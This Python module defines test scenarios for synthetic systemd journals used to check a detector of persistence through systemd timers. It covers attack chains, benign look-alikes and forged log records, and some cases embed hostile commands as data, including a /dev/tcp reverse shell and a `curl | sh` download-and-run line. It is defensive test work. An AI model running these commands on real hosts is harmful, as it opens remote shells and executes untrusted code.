"""The sample journals of sample-journals/: one function per case returning the populated
Scenario plus its description.  Ground truth comes from the chains (scenario.truth)."""

from . import attacks as A
from . import flows as F
from . import noise as N
from .model import NEWER, USEC, User
from .scenario import Scenario, parse_time

ATTACKER_IPS = ("203.0.113.45", "198.51.100.23", "203.0.113.77", "198.51.100.99", "203.0.113.90")


def team():
    return [User("admin", 1000, sudoer=True), User("alice", 1001, sudoer=True),
            User("bob", 1002), User("deploy", 1003, sudoer=True, nopasswd=True),
            User("mallory", 1004), User("ansible", 1100, sudoer=True, nopasswd=True)]


def _base(seed, start, name="web01", minutes=40, rate=1.5, profile=None, **kw):
    sc = Scenario(seed=seed, start=start)
    h = sc.add_host(name, users=team(), **({"profile": profile} if profile else {}), **kw)
    until = sc.start + minutes * 60 * USEC
    sc.spawn(N.noise_actor, sc.start, h, rate, until)
    sc.spawn(N.scheduled_actor, sc.start, h, until)
    return sc, h, until


def _at(sc, minutes):
    return sc.start + int(minutes * 60 * USEC)


CASES = {}


def case(name, fires, summary, expect_text):
    def deco(fn):
        CASES[name] = (fn, fires, summary, expect_text)
        return fn
    return deco


@case("system-timer-sudo", True,
      "alice logs in over SSH with a public key, writes /etc/systemd/system/systemd-update-check"
      ".{service,timer} with `sudo tee`, runs `sudo systemctl daemon-reload` and `sudo systemctl "
      "enable --now systemd-update-check.timer`; PID 1 logs `Reloading.` and `Started "
      "systemd-update-check.timer`, then runs the service every 5 minutes; alice logs out.",
      "One detection (system timer via SSH + sudo): user alice from 203.0.113.45 (port in "
      "expect.json), logind session as listed, timer systemd-update-check.timer, service "
      "systemd-update-check.service, joined by LEADER = sshd _PID and sudo _AUDIT_SESSION = "
      "SESSION_ID.")
def system_timer_sudo():
    sc, h, until = _base(11, "2025-11-26T09:00:00Z")
    sc.spawn(A.system_timer_chain, _at(sc, 3), sc, h, h.users["alice"], ATTACKER_IPS[0],
             "systemd-update-check", "Check for system updates",
             ["/usr/local/bin/update-check", "--quiet"], runs=3,
             output=("checking mirrors...", "ok"))
    return sc


@case("root-login-timer", True,
      "root logs in directly over SSH with a password (no sudo), creates a unit pair and runs "
      "systemctl itself; PID 1 logs `Reloading.` twice (daemon-reload, enable) and `Started "
      "pgsql-backup-sync.timer`; the service runs every 5 minutes.",
      "One detection (direct root login, no sudo): user root from 198.51.100.23, the session of "
      "that login, timer pgsql-backup-sync.timer, service pgsql-backup-sync.service.  There is no "
      "sudo record: the join is sshd Accepted -> logind New session (LEADER) -> PID 1 within the "
      "session's lifetime.")
def root_login_timer():
    sc, h, until = _base(12, "2025-11-26T10:00:00Z", name="db01")
    sc.spawn(A.system_timer_chain, _at(sc, 4), sc, h, h.users["root"], ATTACKER_IPS[1],
             "pgsql-backup-sync", "PostgreSQL backup sync", ["/usr/local/sbin/pgsync"],
             method="password", root_login=True, runs=3, form="root-login-timer")
    return sc


@case("user-timer", True,
      "bob (no sudo rights) logs in over SSH, writes ~/.config/systemd/user/gpg-agent-refresh"
      ".{service,timer} and runs `systemctl --user daemon-reload` and `systemctl --user enable "
      "--now gpg-agent-refresh.timer`; his user manager (user@1002.service) logs `Reloading.` "
      "and `Started gpg-agent-refresh.timer` (USER_UNIT=), then runs the service every 2 minutes "
      "until he logs out and the user manager stops.",
      "One detection (user-level timer): user bob from 203.0.113.77, his session, timer "
      "gpg-agent-refresh.timer, service gpg-agent-refresh.service, manager user@1002.service "
      "(_SYSTEMD_UNIT=user@1002.service, _SYSTEMD_USER_UNIT=init.scope, _UID=1002).")
def user_timer():
    sc, h, until = _base(13, "2025-11-26T11:00:00Z", name="app01")
    sc.spawn(A.user_timer_chain, _at(sc, 2), sc, h, h.users["bob"], ATTACKER_IPS[2],
             "gpg-agent-refresh", "GnuPG agent cache refresh",
             ["/home/bob/.local/bin/gpg-refresh"], interval=120, runs=10, stay_s=420)
    return sc


@case("user-timer-linger", True,
      "As user-timer, plus `loginctl enable-linger` (systemd 252 logs nothing for it).  After "
      "bob logs out (`Removed session N.`) there is no `Stopping user@1002.service`: the user "
      "manager keeps running and keeps starting gpg-agent-refresh.service every 5 minutes.",
      "One detection (user-level timer, persistent through linger): user bob from 203.0.113.77, "
      "timer gpg-agent-refresh.timer; a rule that reports linger should cite service starts by "
      "user@1002.service after the logind `Removed session` record.")
def user_timer_linger():
    sc, h, until = _base(14, "2025-11-26T12:00:00Z", name="app01", minutes=45)
    sc.spawn(A.user_timer_chain, _at(sc, 2), sc, h, h.users["bob"], ATTACKER_IPS[2],
             "gpg-agent-refresh", "GnuPG agent cache refresh",
             ["/home/bob/.local/bin/gpg-refresh"], linger=True, interval=300, runs=7, stay_s=150,
             form="user-timer-linger")
    return sc


@case("transient-timer-sudo", True,
      "alice runs `sudo systemd-run --on-active=30 bash -c 'bash -i >& /dev/tcp/"
      "198.51.100.7/4444 0>&1'`: no unit file and no daemon-reload; PID 1 logs `Started "
      "run-r<32 hex>.timer - /usr/bin/bash -c bash -i >& ...` (the description is the command "
      "line, argv[0] resolved, unquoted) and 30 s later starts the matching run-r<hex>.service. "
      "As root, systemd-run talks to PID 1's private socket (no D-Bus unique name), hence "
      "run-r<hex> rather than run-u<N>.",
      "One detection (transient timer with sudo): user alice from 203.0.113.45, timer "
      "run-r<hex>.timer and service run-r<hex>.service as listed, the description carrying the "
      "command.  No `Reloading.` belongs to the chain.")
def transient_timer_sudo():
    sc, h, until = _base(15, "2025-11-26T13:00:00Z")
    sc.spawn(A.transient_chain, _at(sc, 3), sc, h, h.users["alice"], ATTACKER_IPS[0],
             ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], ["--on-active=30"],
             runs=1)
    return sc


@case("transient-timer-user", True,
      "bob runs `systemd-run --user --on-calendar='*:0/5' /bin/sh -c 'python3 "
      "~/.cache/.s.py'` (no sudo); his user manager logs `Started run-r<hex>.timer - /bin/sh -c "
      "python3 ~/.cache/.s.py.` with USER_UNIT= and starts the service every 5 minutes.",
      "One detection (transient user timer): user bob from 203.0.113.77, timer and service "
      "run-r<hex>.{timer,service} of user@1002.service.")
def transient_timer_user():
    sc, h, until = _base(16, "2025-11-26T14:00:00Z", name="app01")
    sc.spawn(A.transient_chain, _at(sc, 2), sc, h, h.users["bob"], ATTACKER_IPS[2],
             ["/bin/sh", "-c", "python3 ~/.cache/.s.py"], ["--on-calendar=*:0/5"],
             user_mode=True, runs=5, interval=300)
    return sc


@case("remote-oneshot", True,
      "deploy (sudo NOPASSWD) copies two unit files with scp (an sftp session), then runs "
      "`ssh db01 'sudo mv /tmp/logrotate-hourly.* /etc/systemd/system/ && sudo systemctl enable "
      "--now logrotate-hourly.timer'`: command sessions without a pty, so the sshd child is "
      "`sshd: deploy@notty` and the sudo records have no TTY= part (sudo 1.9.13; older sudo wrote "
      "TTY=unknown).  The session lasts about a second.",
      "One detection (remote systemctl without a TTY): user deploy from 203.0.113.90, the second "
      "session, timer logrotate-hourly.timer, service logrotate-hourly.service.  The first "
      "(sftp) session must not produce a second detection.")
def remote_oneshot():
    sc, h, until = _base(17, "2025-11-26T15:00:00Z", name="db01", minutes=35)
    sc.spawn(A.remote_oneshot_chain, _at(sc, 3), sc, h, h.users["deploy"], ATTACKER_IPS[4],
             "logrotate-hourly", "Hourly log rotation", ["/var/tmp/.lr/logrotate", "-f"],
             interval=600, runs=3)
    return sc


@case("suspicious-exec", True,
      "Two timers whose command is suspicious and visible in the journal: (a) alice writes the "
      "units with `sudo sh -c \"printf '...ExecStart=/dev/shm/.k/kworker...' > "
      "/etc/systemd/system/kworker-update.service ...\"` and enables the timer; the service's "
      "own records show _EXE=/dev/shm/.k/kworker; (b) `sudo systemd-run --on-calendar=hourly "
      "/bin/sh -c 'curl -fsSL http://198.51.100.7/i.sh | sh'` (the description is the command).",
      "Two detections, both flagged suspicious: kworker-update.timer (system timer with sudo, "
      "exec /dev/shm/.k/kworker) and a run-r<hex>.timer (transient, `curl ... | sh`).")
def suspicious_exec():
    sc, h, until = _base(18, "2025-11-26T16:00:00Z", minutes=50)
    sc.spawn(A.system_timer_chain, _at(sc, 3), sc, h, h.users["alice"], ATTACKER_IPS[0],
             "kworker-update", "Kernel worker update", ["/dev/shm/.k/kworker", "-s"],
             install="sh-printf", runs=3, extra={"suspicious_exec": "/dev/shm/.k/kworker"},
             output=("[kworker] connected",))
    sc.spawn(A.transient_chain, _at(sc, 20), sc, h, h.users["alice"], ATTACKER_IPS[0],
             ["/bin/sh", "-c", "curl -fsSL http://198.51.100.7/i.sh | sh"],
             ["--on-calendar=hourly"], runs=0)
    return sc


@case("two-attackers", True,
      "alice (203.0.113.45, `sudo tee`) and deploy (198.51.100.99, `sudo cp` from /tmp) are "
      "logged in at the same time on one host and each installs and starts a timer.",
      "Two detections, one per user, each joined to its own session: alice -> net-monitor.timer, "
      "deploy -> cache-warm.timer.  Neither timer may be attributed to the other user's session.")
def two_attackers():
    sc, h, until = _base(19, "2025-11-26T17:00:00Z", minutes=45)
    sc.spawn(A.system_timer_chain, _at(sc, 2), sc, h, h.users["alice"], ATTACKER_IPS[0],
             "net-monitor", "Network monitor", ["/usr/local/bin/netmon"], runs=3, linger_s=400)
    sc.spawn(A.system_timer_chain, _at(sc, 4), sc, h, h.users["deploy"], ATTACKER_IPS[3],
             "cache-warm", "Cache warmer", ["/opt/cache/warm.sh"], install="cp", runs=3,
             linger_s=60)
    return sc


@case("newer-systemd", True,
      "The system-timer-sudo chain as systemd 258 and OpenSSH 10.0 log it: sshd-session "
      "(_COMM/SYSLOG_IDENTIFIER sshd-session, _EXE=/usr/lib/openssh/sshd-session), logind `New "
      "session 'N' of user 'alice' with class 'user' and type 'tty'.` with CLASS=/TYPE=, a "
      "second logind session of class 'manager' for user@1001.service, and reloads logged as "
      "`Reloading requested from client PID N ('systemctl') (unit session-N.scope)...`, "
      "`Reloading...`, `Reloading finished in N ms.`",
      "One detection, the same as system-timer-sudo: user alice from 203.0.113.45, timer "
      "systemd-update-check.timer.  The reload initiator names the session scope.  The "
      "'manager' class session must not be taken for the SSH login.")
def newer_systemd():
    sc, h, until = _base(20, "2025-11-26T09:00:00Z", profile=NEWER, name="web02")
    sc.spawn(A.system_timer_chain, _at(sc, 3), sc, h, h.users["alice"], ATTACKER_IPS[0],
             "systemd-update-check", "Check for system updates",
             ["/usr/local/bin/update-check", "--quiet"], runs=3, form="system-timer-sudo")
    return sc


# ---------------------------------------------------------------------------- must not fire

@case("benign-apt-install", False,
      "admin runs `sudo apt update` and `sudo apt install certbot`; certbot's postinst (dpkg -> "
      "deb-systemd-helper/deb-systemd-invoke) runs `systemctl daemon-reload` and starts "
      "certbot.timer, so PID 1 logs `Reloading.` and `Started certbot.timer - Run certbot twice "
      "daily.` inside admin's SSH session, with sudo COMMAND=/usr/bin/apt install certbot.",
      "No detection: the timer start is explained by a package manager command "
      "(/usr/bin/apt install, allowlisted).")
def benign_apt_install():
    sc, h, until = _base(21, "2025-11-26T09:30:00Z")
    sc.spawn(A.apt_install_chain, _at(sc, 3), sc, h, h.users["admin"], "10.0.5.21", "certbot")
    return sc


@case("benign-boot", False,
      "db01 reboots: kernel and early PID 1 lines (read from /dev/kmsg, _TRANSPORT=kernel), then "
      "PID 1 starts every installed timer (`Started apt-daily.timer ...`, ...), reaches "
      "timers.target and multi-user.target; no SSH session exists.",
      "No detection: timers started at boot with no session, no sudo and no reload.")
def benign_boot():
    sc = Scenario(seed=22, start="2025-11-26T05:58:00Z")
    h = sc.add_host("db01", users=team())
    until = sc.start + 30 * 60 * USEC
    sc.spawn(N.boot_actor, sc.start, h)
    sc.spawn(N.noise_actor, sc.start + 120 * USEC, h, 0.6, until)
    return sc


@case("benign-service-restart", False,
      "admin logs in, reads nginx's error log with sudo, runs `sudo systemctl daemon-reload` "
      "and `sudo systemctl restart nginx.service` (Stopping/Stopped/Starting/Started nginx) and "
      "`sudo systemctl status nginx`.",
      "No detection: SSH + sudo + daemon-reload but no timer is started.")
def benign_service_restart():
    sc, h, until = _base(23, "2025-11-26T10:30:00Z", nginx=True)
    sc.spawn(A.admin_restart_chain, _at(sc, 4), sc, h, h.users["admin"], "10.0.5.21",
             daemon_reload=True)
    return sc


@case("failed-logins", False,
      "Password guessing: invalid users and root from several addresses, a burst that hits "
      "MaxAuthTries, and a legitimate user who mistypes once and then logs in without doing "
      "anything privileged.",
      "No detection.")
def failed_logins():
    sc, h, until = _base(24, "2025-11-26T02:00:00Z", rate=0.5)

    def guesses(c):
        for i in range(12):
            yield c.sleep(c.rng.uniform(10, 90))
            ip = "185.220.%d.%d" % (c.rng.randint(100, 103), c.rng.randint(2, 250))
            if i % 3 == 0:
                yield from F.ssh_failures(c, h, ip, "root", attempts=6 + (i % 2))
            else:
                yield from F.ssh_failures(c, h, ip, c.rng.choice(N.SCANNER_USERS), invalid=True,
                                          attempts=c.rng.randint(1, 3))
        yield c.sleep(30)
        yield from F.ssh_failures(c, h, "10.0.5.21", "admin", attempts=1)
        yield c.sleep(6)
        s = yield from F.ssh_login(c, h, h.users["admin"], "10.0.5.21", method="password")
        yield c.sleep(95)
        yield from F.ssh_logout(c, s)
    sc.spawn(guesses, _at(sc, 1))
    return sc


@case("config-management", False,
      "An Ansible run: user ansible (sudo NOPASSWD) from the controller 10.0.9.5 runs modules "
      "through `sudo /bin/sh -c echo BECOME-SUCCESS-... ; /usr/bin/python3 .../AnsiballZ_*.py`; "
      "the systemd module reloads PID 1 and starts node-backup.timer.",
      "No detection when `ansible` is on the configuration-management allowlist (without the "
      "allowlist this is a system-timer-sudo chain: ssh -> sudo -> Reloading. -> Started "
      "node-backup.timer).")
def config_management():
    sc, h, until = _base(25, "2025-11-26T03:10:00Z")
    sc.spawn(A.ansible_chain, _at(sc, 5), sc, h, h.users["ansible"], "10.0.9.5", "node-backup",
             "Nightly node backup")
    return sc


@case("forgeries", False,
      "mallory (uid 1004, no sudo) forges the whole chain from her SSH session: `logger -t sshd` "
      "Accepted/session lines for alice (spoofed SYSLOG_PID), `logger --journald` logind `New "
      "session` and PID 1 `Reloading.` / `Started evil.timer` with MESSAGE_ID, UNIT=, JOB_*, "
      "SYSLOG_PID=1 (the _PID/_UID/_COMM/_TRANSPORT she tried to set are dropped), "
      "`systemd-cat -t sudo` and `logger -t sudo` lines.  Later, while admin is genuinely "
      "logged in and restarting nginx with sudo, she injects a forged `Reloading.` and `Started "
      "backup-sync.timer` into admin's session window.",
      "No detection: every forged record fails the trusted-field checks (_PID/_UID/_COMM/_EXE/"
      "_TRANSPORT/_SYSTEMD_UNIT), and the genuine admin session contains no genuine timer start.")
def forgeries():
    sc, h, until = _base(26, "2025-11-26T19:00:00Z", minutes=50, nginx=True)
    holder = {}

    def mallory(c):
        s = yield from F.ssh_login(c, h, h.users["mallory"], "10.0.7.44")
        holder["sess"] = s
        yield c.sleep(1500)
        yield from F.ssh_logout(c, s)
    sc.spawn(mallory, _at(sc, 1))
    sc.spawn(A.forged_chain, _at(sc, 4), sc, h, h.users["mallory"], "10.0.7.44")
    sc.spawn(A.admin_restart_chain, _at(sc, 12), sc, h, h.users["admin"], "10.0.5.21",
             daemon_reload=False)
    sc.spawn(A.inject_during, _at(sc, 12), sc, h, holder, 75)
    return sc


# ---------------------------------------------------------------------------- busy day

@case("busy-day", True,
      "A working day on three hosts (web01 and db01: Debian 12; app01: systemd 258/OpenSSH "
      "10.0, rebooted at 06:30) with background traffic (scanners, firewall drops, an "
      "application, postfix, cron, daily timers) and every attack form and benign look-alike "
      "of the other cases, at different times and on different hosts.",
      "Every detection listed in expect.json (one per attack chain, with its host) and nothing "
      "for the benign look-alikes: apt install, boot, service restart, failed logins, Ansible, "
      "forgeries, unattended daily timers.")
def busy_day():
    sc = Scenario(seed=30, start="2025-11-26T06:00:00Z")
    web = sc.add_host("web01", users=team(), ip="192.0.2.10", php=True, nginx=True)
    db = sc.add_host("db01", users=team(), ip="192.0.2.11", sysstat=True)
    app = sc.add_host("app01", users=team(), ip="192.0.2.12", profile=NEWER)
    until = sc.start + 12 * 3600 * USEC
    for h in (web, db):
        sc.spawn(N.noise_actor, sc.start, h, 0.7, until)
        sc.spawn(N.scheduled_actor, sc.start, h, until)
    boot_t = _at(sc, 30)

    def app_day(c):
        yield from N.boot_actor(c, app)
        sc.spawn(N.noise_actor, c.t, app, 0.5, until)
        sc.spawn(N.scheduled_actor, c.t, app, until)
    sc.spawn(app_day, boot_t)
    U = lambda h, n: h.users[n]
    # attacks
    sc.spawn(A.system_timer_chain, _at(sc, 95), sc, web, U(web, "alice"), ATTACKER_IPS[0],
             "systemd-update-check", "Check for system updates", ["/usr/local/bin/update-check"],
             runs=5)
    sc.spawn(A.system_timer_chain, _at(sc, 140), sc, db, U(db, "root"), ATTACKER_IPS[1],
             "pgsql-backup-sync", "PostgreSQL backup sync", ["/usr/local/sbin/pgsync"],
             method="password", root_login=True, runs=4, form="root-login-timer")
    sc.spawn(A.user_timer_chain, _at(sc, 200), sc, app, U(app, "bob"), ATTACKER_IPS[2],
             "gpg-agent-refresh", "GnuPG agent cache refresh", ["/home/bob/.local/bin/gpg-refresh"],
             interval=180, runs=6, stay_s=700)
    sc.spawn(A.user_timer_chain, _at(sc, 260), sc, web, U(web, "alice"), ATTACKER_IPS[3],
             "tracker-sync", "Tracker metadata sync", ["/home/alice/.local/share/.tsync"],
             linger=True, linger_via_sudo=True, interval=600, runs=12, stay_s=200,
             form="user-timer-linger")
    sc.spawn(A.transient_chain, _at(sc, 320), sc, db, U(db, "alice"), ATTACKER_IPS[0],
             ["/bin/sh", "-c", "nohup /var/tmp/.x/agent >/dev/null 2>&1"],
             ["--on-active=45", "--on-unit-active=900"], unit="dbus-broker-check", runs=4,
             interval=900)
    sc.spawn(A.transient_chain, _at(sc, 380), sc, app, U(app, "bob"), ATTACKER_IPS[2],
             ["/bin/sh", "-c", "python3 ~/.cache/.s.py"], ["--on-calendar=*:0/5"],
             user_mode=True, runs=6, interval=300)
    sc.spawn(A.remote_oneshot_chain, _at(sc, 430), sc, db, U(db, "deploy"), ATTACKER_IPS[4],
             "logrotate-hourly", "Hourly log rotation", ["/var/tmp/.lr/logrotate", "-f"])
    sc.spawn(A.system_timer_chain, _at(sc, 480), sc, web, U(web, "alice"), ATTACKER_IPS[0],
             "kworker-update", "Kernel worker update", ["/dev/shm/.k/kworker", "-s"],
             install="sh-printf", runs=3, extra={"suspicious_exec": "/dev/shm/.k/kworker"})
    sc.spawn(A.system_timer_chain, _at(sc, 540), sc, app, U(app, "alice"), ATTACKER_IPS[0],
             "net-monitor", "Network monitor", ["/usr/local/bin/netmon"], runs=3, linger_s=500)
    sc.spawn(A.system_timer_chain, _at(sc, 545), sc, app, U(app, "deploy"), ATTACKER_IPS[3],
             "cache-warm", "Cache warmer", ["/opt/cache/warm.sh"], install="cp", runs=3,
             linger_s=90)
    # benign look-alikes
    sc.spawn(A.apt_install_chain, _at(sc, 70), sc, web, U(web, "admin"), "10.0.5.21", "certbot")
    sc.spawn(A.admin_restart_chain, _at(sc, 180), sc, web, U(web, "admin"), "10.0.5.21",
             daemon_reload=True)
    sc.spawn(A.ansible_chain, _at(sc, 240), sc, db, U(db, "ansible"), "10.0.9.5", "node-backup",
             "Nightly node backup")
    sc.spawn(A.apt_install_chain, _at(sc, 600), sc, db, U(db, "admin"), "10.0.5.21", "sysstat",
             timers=(("sysstat-collect.timer", None), ("sysstat-summary.timer", None)),
             services=("sysstat.service",))
    holder = {}

    def mallory(c):
        s = yield from F.ssh_login(c, web, U(web, "mallory"), "10.0.7.44")
        holder["sess"] = s
        yield c.sleep(2400)
        yield from F.ssh_logout(c, s)
    sc.spawn(mallory, _at(sc, 350))
    sc.spawn(A.forged_chain, _at(sc, 355), sc, web, U(web, "mallory"), "10.0.7.44")
    sc.spawn(A.admin_restart_chain, _at(sc, 370), sc, web, U(web, "admin"), "10.0.5.21")
    sc.spawn(A.inject_during, _at(sc, 370), sc, web, holder, 70)
    return sc


def build(name):
    fn, fires, summary, expect_text = CASES[name]
    return fn(), fires, summary, expect_text
